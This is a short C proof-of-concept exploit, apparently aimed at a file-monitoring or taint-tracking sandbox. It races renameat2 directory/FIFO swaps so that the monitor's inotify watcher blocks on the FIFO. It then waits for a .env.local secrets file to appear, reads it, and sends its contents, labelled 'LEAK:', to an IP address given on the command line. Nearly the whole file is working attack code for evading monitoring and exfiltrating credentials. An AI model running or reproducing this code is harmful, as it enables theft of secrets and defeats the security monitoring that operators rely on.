// fifoswap IP: swap a directory and a FIFO (renameat2 RENAME_EXCHANGE) until the monitor's
// inotify watcher, walking the "new directory", opens the FIFO and blocks; then read a secret
// that an outside process creates afterwards (the watcher should have marked it).
#define _GNU_SOURCE
#include <sys/stat.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include "send.c"
int main(int c,char**v){ const char*ip=v[1]; int n=c>2?atoi(v[2]):20000;
 printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
 mkdir("d",0755); mkfifo("f",0644); int ok=0;
 for(int i=0;i<n;i++) if(renameat2(AT_FDCWD,"d",AT_FDCWD,"f",RENAME_EXCHANGE)==0) ok++;
 printf("exchanges: %d/%d\n",ok,n);
 int f=open("READY",O_WRONLY|O_CREAT,0644); close(f); printf("READY\n"); fflush(stdout);
 for(int i=0;i<600;i++){ if(access(".env.local",F_OK)==0) break; usleep(100000);}
 sleep(3);
 int fd=open(".env.local",O_RDONLY); printf("open .env.local = %d %s\n",fd,fd<0?strerror(errno):"");
 if(fd<0) return 1; char b[4096]; ssize_t k=read(fd,b,4095); if(k<0)k=0; b[k]=0; printf("READ: %s",b);
 char m[4200]; int l=snprintf(m,sizeof m,"LEAK:%s",b); printf("POST send: %d\n",send_buf(ip,m,l)); }
